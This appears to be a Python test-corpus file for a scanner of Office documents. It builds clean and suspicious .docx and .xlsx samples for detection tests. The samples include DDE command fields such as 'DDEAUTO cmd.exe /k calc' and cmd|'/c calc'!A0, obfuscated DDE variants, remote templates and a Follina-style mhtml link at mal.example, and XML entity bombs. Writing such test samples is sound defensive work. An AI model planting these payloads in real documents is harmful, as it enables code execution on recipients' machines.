"""Documents and workbooks of parts (.docx, .xlsx): honest ones, and what may lie in them besides text."""

from __future__ import annotations

from functools import partial
from typing import TYPE_CHECKING

from rules.verdicts import Finding
from tests.corpus.compounds import Node, make_compound, make_native
from tests.corpus.documents import a_docx, an_xlsx, with_parts
from tests.corpus.judged import at_limit, beyond, clean
from tests.corpus.office_maker import (
    CONTENT_TYPES,
    DOCUMENT,
    DOCUMENT_LINKS,
    SHEET,
    TYPES,
    WORD,
    by_default,
    by_xlsxwriter,
    docx_with,
    linked,
    retyped,
    rich_docx,
    with_body,
    with_chart,
    with_false_part,
    with_fields,
    with_formula,
    with_links,
    with_part_twice,
    with_rows,
    with_typed,
    xlsx_linked,
    xlsx_with,
    xlsx_with_typed,
)
from tests.corpus.zip_maker import Entry, make_zip

if TYPE_CHECKING:
    from tests.corpus import Sample

_WIDE = (
    ("UTF-16", "utf-16-le", b"\xff\xfe"),
    ("UTF-16, the other way round", "utf-16-be", b"\xfe\xff"),
    ("UTF-16 that does not say so", "utf-16-le", b""),
    ("UTF-16, the other way round, that does not say so", "utf-16-be", b""),
)
_EMBEDDED = {
    Finding.BOMB: partial(docx_with, {DOCUMENT: b"<!DOCTYPE a [<!ENTITY a 'b'>]><a/>"}),
    Finding.EXTERNAL_CONTENT: linked("image", "http://mal.example/a.png"),
    Finding.DATA_EXCHANGE: with_fields("DDE cmd x"),
    Finding.CONTROLS: partial(docx_with, {"word/activeX/activeX1.xml": b"<a/>"}),
}
_ACTIVE = "application/vnd.ms-office.activeX+xml"
_docx_beyond, _docx_at_limit = partial(beyond, "docx"), partial(at_limit, "docx")
_xlsx_beyond, _xlsx_at_limit = partial(beyond, "xlsx"), partial(at_limit, "xlsx")


def samples() -> list[Sample]:
    """Return them."""
    return [*_honest(), *_kinds(), *_programs(), *_exchange(), *_links(), *_objects(), *_broken()]


def _honest() -> list[Sample]:
    return [
        clean("docx", "of python-docx", a_docx),
        clean("docx", "with a table, a picture and a link", rich_docx),
        clean("docx", "with a field of its own", with_fields("PAGE  \\* MERGEFORMAT")),
        clean("docx", "with a part of UTF-16", partial(docx_with, {"docProps/custom.xml": "<a/>".encode("utf-16")})),
        clean("docx", "handed in as its library left it", partial(docx_with, {})),
        clean(
            "docx",
            "with a template of its author's",
            linked("attachedTemplate", "file:///C:\\Plantillas\\Oficio.dotm"),
        ),
        clean("docx", "with its type by its extension", by_default),
        clean("docx", "with a chart, whose numbers are a workbook", with_chart),
        clean("xlsx", "of openpyxl", an_xlsx),
        clean("xlsx", "of XlsxWriter", partial(by_xlsxwriter, is_frugal=False)),
        clean("xlsx", "of XlsxWriter, in little memory", partial(by_xlsxwriter, is_frugal=True)),
        clean("xlsx", "with many rows", with_rows),
        clean("xlsx", "with a bar in a text", partial(with_formula, '"a"&amp;"|"&amp;B1')),
    ]


def _kinds() -> list[Sample]:
    """Return what is made of parts, too, and is neither: just a ZIP, which no other name is true of."""
    names = {
        "a presentation": f"{TYPES}.presentationml.presentation.main+xml",
        "a template": f"{TYPES}.wordprocessingml.template.main+xml",
    }
    others = [clean("zip", f"that is {what}", retyped(content_type)) for what, content_type in names.items()]
    return [
        *others,
        clean(
            "zip", "with a file called like content types", lambda: make_zip([Entry("[Content_Types].xml", b"<a/>")])
        ),
    ]


def _programs() -> list[Sample]:
    with_macros = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return [
        _docx_at_limit(Finding.MACROS, "a text about them", partial(docx_with, {"word/vbaProject.xml": b"<a/>"})),
        _docx_beyond(Finding.MACROS, "a project", partial(docx_with, {"word/vbaProject.bin": b"x"})),
        _docx_beyond(Finding.MACROS, "a project by another name", linked("vbaProject", "datos.bin", is_external=False)),
        _docx_beyond(Finding.MACROS, "a document that may have them", retyped(with_macros), is_really="zip"),
        _xlsx_at_limit(Finding.MACROS, "a part called much like it", partial(xlsx_with, {"xl/macros.xml": b"<a/>"})),
        _xlsx_beyond(Finding.MACROS, "sheets of Excel 4", partial(xlsx_with, {"xl/macrosheets/sheet1.xml": b"<a/>"})),
        _xlsx_beyond(
            Finding.MACROS, "a sheet of Excel 4 by another name", xlsx_linked("xlMacrosheet", "worksheets/sheet1.xml")
        ),
        _docx_at_limit(Finding.CONTROLS, "a form of Word's own", partial(docx_with, {"customXml/item1.xml": b"<a/>"})),
        _docx_beyond(Finding.CONTROLS, "ActiveX", partial(docx_with, {"word/activeX/activeX1.xml": b"<a/>"})),
        _docx_beyond(Finding.CONTROLS, "ActiveX by its type", partial(with_typed, "word/a.xml", _ACTIVE, b"<a/>")),
        _docx_beyond(Finding.CONTROLS, "ActiveX by another name", linked("control", "a.xml", is_external=False)),
        _docx_beyond(Finding.PROGRAM, "among its parts", partial(docx_with, {"word/media/a.exe": b"x"})),
    ]


def _exchange() -> list[Sample]:
    split = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>{}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    run = "<w:r><w:instrText>{}</w:instrText></w:r>"
    two_runs = split.format(run.format("DD") + run.format('EAUTO c:\\\\cmd.exe "/k calc"'))
    commented = split.format(run.format("D<!-- -->D<![CDATA[E]]>&#65;UTO cmd"))
    spelled = split.format(run.format("QUOTE 68 68 69 65 85 84 79"))
    nested = split.format(run.format("SET a ") + split.format(run.format("DDE cmd x")))
    simple = "<w:fldSimple w:instr=' DDE cmd \"/k calc\"'><w:r><w:t>x</w:t></w:r></w:fldSimple>"
    around = split.format(run.format("D") + split.format(run.format("PAGE")) + run.format("DE cmd x"))
    stray = '<w:r><w:fldChar w:fldCharType="end"/></w:r>' + two_runs
    bodies = {
        "around another field": around,
        "behind an end without a beginning": stray,
        "over two runs": two_runs,
        "in comments and by number": commented,
        "spelled out": spelled,
        "in another field": nested,
        "in one element": simple,
    }
    header = f"<w:hdr {WORD}><w:p>{two_runs}</w:p></w:hdr>".encode()
    dde = b'<externalLink xmlns="a"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    book = b'<externalLink xmlns="a"><externalBook/></externalLink>'
    link = f"{TYPES}.spreadsheetml.externalLink+xml"
    return [
        _docx_at_limit(
            Finding.DATA_EXCHANGE, "a text about it", partial(with_body, "<w:r><w:t>DDEAUTO cmd</w:t></w:r>")
        ),
        _docx_at_limit(Finding.DATA_EXCHANGE, "another field", with_fields("ADDEF x")),
        *(_docx_beyond(Finding.DATA_EXCHANGE, what, partial(with_body, body)) for what, body in bodies.items()),
        *(
            _docx_beyond(Finding.DATA_EXCHANGE, f"in {how}", partial(with_body, two_runs, encoding=encoding, mark=mark))
            for how, encoding, mark in _WIDE
        ),
        _docx_beyond(
            Finding.DATA_EXCHANGE,
            "in a header",
            partial(with_typed, "word/h.xml", f"{TYPES}.wordprocessingml.header+xml", header),
        ),
        _xlsx_at_limit(
            Finding.DATA_EXCHANGE, "a link to a book", partial(xlsx_with_typed, "xl/externalLinks/a.xml", link, book)
        ),
        _xlsx_beyond(
            Finding.DATA_EXCHANGE, "a link to a program", partial(xlsx_with_typed, "xl/externalLinks/a.xml", link, dde)
        ),
        _xlsx_at_limit(
            Finding.DATA_EXCHANGE, "a formula with a bar", partial(with_formula, "IF(A1=&quot;|&quot;,1,2)")
        ),
        _xlsx_beyond(Finding.DATA_EXCHANGE, "a formula", partial(with_formula, "cmd|'/c calc'!A0")),
        _xlsx_beyond(
            Finding.DATA_EXCHANGE,
            "a formula of LibreOffice",
            partial(with_formula, "DDE(&quot;soffice&quot;,&quot;a&quot;)"),
        ),
    ]


def _links() -> list[Sample]:
    connections = f"{TYPES}.spreadsheetml.connections+xml"
    refreshed = '<connections><connection id="1" refreshOnLoad="{}"/></connections>'
    with_connection = partial(xlsx_with_typed, "xl/connections.xml", connections)
    return [
        _docx_at_limit(Finding.EXTERNAL_CONTENT, "a link to click on", linked("hyperlink", "https://www.gob.pe")),
        _docx_at_limit(
            Finding.EXTERNAL_CONTENT, "a template of this machine", linked("attachedTemplate", "Normal.dotm")
        ),
        _docx_beyond(Finding.EXTERNAL_CONTENT, "a template", linked("attachedTemplate", "https://mal.example/a.dotm")),
        _docx_beyond(
            Finding.EXTERNAL_CONTENT, "a template of a share", linked("attachedTemplate", "file:////servidor/a.dotm")
        ),
        _docx_beyond(
            Finding.EXTERNAL_CONTENT,
            "a template of a share, as Windows writes it",
            linked("attachedTemplate", "\\\\servidor\\a.dotm"),
        ),
        _docx_beyond(Finding.EXTERNAL_CONTENT, "a picture", linked("image", "http://mal.example/a.png")),
        _docx_beyond(
            Finding.EXTERNAL_CONTENT,
            "an object (Follina)",
            linked("oleObject", "mhtml:http://mal.example/a.html!x-usc:b"),
        ),
        _docx_at_limit(
            Finding.EXTERNAL_CONTENT,
            "a picture of a server that is kept inside",
            with_fields('INCLUDEPICTURE "https://a.example/d.png" \\* MERGEFORMATINET'),
        ),
        _docx_beyond(
            Finding.EXTERNAL_CONTENT,
            "a picture that is fetched",
            with_fields('INCLUDEPICTURE "https://a.example/d.png" \\d'),
        ),
        _xlsx_at_limit(
            Finding.EXTERNAL_CONTENT, "a link in a formula", partial(with_formula, 'HYPERLINK("https://a.example/")')
        ),
        _xlsx_beyond(
            Finding.EXTERNAL_CONTENT,
            "a formula that asks a server",
            partial(with_formula, '_xlfn.WEBSERVICE("https://a.example/"&amp;A1)'),
        ),
        _xlsx_beyond(
            Finding.EXTERNAL_CONTENT,
            "a formula that fetches a picture",
            partial(with_formula, '_xlfn.IMAGE("https://a.example/a.png")'),
        ),
        _docx_beyond(Finding.EXTERNAL_CONTENT, "a frame", linked("frame", "http://mal.example/a.html")),
        _xlsx_at_limit(
            Finding.EXTERNAL_CONTENT, "a connection that waits", partial(with_connection, refreshed.format(0).encode())
        ),
        _xlsx_beyond(
            Finding.EXTERNAL_CONTENT,
            "a connection that does not",
            partial(with_connection, refreshed.format(1).encode()),
        ),
        _xlsx_beyond(
            Finding.EXTERNAL_CONTENT,
            "another workbook",
            xlsx_linked("externalLinkPath", "file:///C:\\otro.xlsx", is_external=True),
        ),
    ]


def _objects() -> list[Sample]:
    a_text, a_program = (
        make_compound([Node("\x01Ole10Native", make_native(name, b"Hola"))]) for name in ("a.txt", "a.exe")
    )
    embedded = "word/embeddings/oleObject1.bin"
    workbook = with_parts(an_xlsx(), {"xl/vbaProject.bin": b"x"})
    objects = Finding.EMBEDDED_OBJECTS
    return [
        _docx_at_limit(objects, "a chart's numbers", with_chart),
        _docx_beyond(objects, "a package", partial(docx_with, {embedded: a_text})),
        _docx_beyond(objects, "by its purpose alone", linked("oleObject", "media/a.png", is_external=False)),
        _docx_beyond(objects, "a document that is taken over", linked("aFChunk", "a.rtf", is_external=False)),
        _docx_at_limit(Finding.PROGRAM, "a text in a package", partial(docx_with, {embedded: a_text}), objects),
        _docx_beyond(Finding.PROGRAM, "in a package", partial(docx_with, {embedded: a_program}), objects),
        _docx_beyond(
            Finding.MACROS, "in an embedded workbook", partial(docx_with, {"word/embeddings/a.xlsx": workbook})
        ),
    ]


def _broken() -> list[Sample]:
    entities = '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>'
    damaged, bomb = Finding.DAMAGED, Finding.BOMB
    broken = {
        "without its document": {DOCUMENT: None},
        "without content types that can be read": {CONTENT_TYPES: b"<Types"},
        "without a way to its document": {"_rels/.rels": None},
        "with links that are no XML": {DOCUMENT_LINKS: b"<Relationships>"},
        "with a text that is no XML": {DOCUMENT: b"<w:document>"},
        "with a text of another encoding": {DOCUMENT: b'<?xml version="1.0" encoding="iso-8859-1"?><a/>'},
        "with a document type": {DOCUMENT: b'<!DOCTYPE a SYSTEM "http://mal.example/a.dtd"><a/>'},
    }
    mark = "<w:fldChar/>"
    large = "<w:r><w:t>" + "Solicito copia. " * (9 << 16) + "</w:t></w:r>"
    return [
        *(_docx_beyond(damaged, what, partial(docx_with, parts)) for what, parts in broken.items()),
        _docx_beyond(damaged, "with a part twice", with_part_twice),
        _docx_at_limit(damaged, "with a link to nothing that it needs", linked("image", "nada.png", is_external=False)),
        _xlsx_at_limit(damaged, "without its colours", xlsx_linked("theme", "nada.xml")),
        _xlsx_beyond(damaged, "without content types", partial(xlsx_with, {CONTENT_TYPES: b"<Types/>"})),
        _docx_beyond(damaged, "with an embedded document that is not what it says", with_false_part),
        _xlsx_beyond(damaged, "without a sheet", partial(xlsx_with, {SHEET: None})),
        _docx_at_limit(
            bomb, "a document type without entities", partial(docx_with, {DOCUMENT: b"<!DOCTYPE a><a/>"}), damaged
        ),
        _docx_beyond(bomb, "entities", partial(docx_with, {DOCUMENT: entities.encode()})),
        _docx_beyond(
            bomb, "entities of content types", partial(docx_with, {CONTENT_TYPES: entities.encode()}), damaged
        ),
        _docx_beyond(bomb, "entities of links", partial(docx_with, {DOCUMENT_LINKS: entities.encode()})),
        _docx_at_limit(Finding.TOO_COMPLEX, "a long text", partial(with_body, large[: 7 << 20] + "</w:t></w:r>")),
        _docx_at_limit(Finding.TOO_COMPLEX, "30,000 marks of fields", partial(with_body, mark * 30_000)),
        _docx_beyond(Finding.TOO_COMPLEX, "more marks of fields", partial(with_body, mark * 30_001)),
        _docx_at_limit(
            Finding.TOO_COMPLEX, "2,000 comments, with the declaration", partial(with_body, "<!-- -->" * 1_999)
        ),
        _docx_beyond(Finding.TOO_COMPLEX, "more comments", partial(with_body, "<!-- -->" * 2_000)),
        _docx_at_limit(Finding.TOO_COMPLEX, "many relationships", partial(with_links, 9_900)),
        _docx_beyond(Finding.TOO_COMPLEX, "more than 10,000 relationships", partial(with_links, 10_000)),
        _docx_beyond(Finding.TOO_COMPLEX, "a text without end", partial(with_body, large)),
    ]
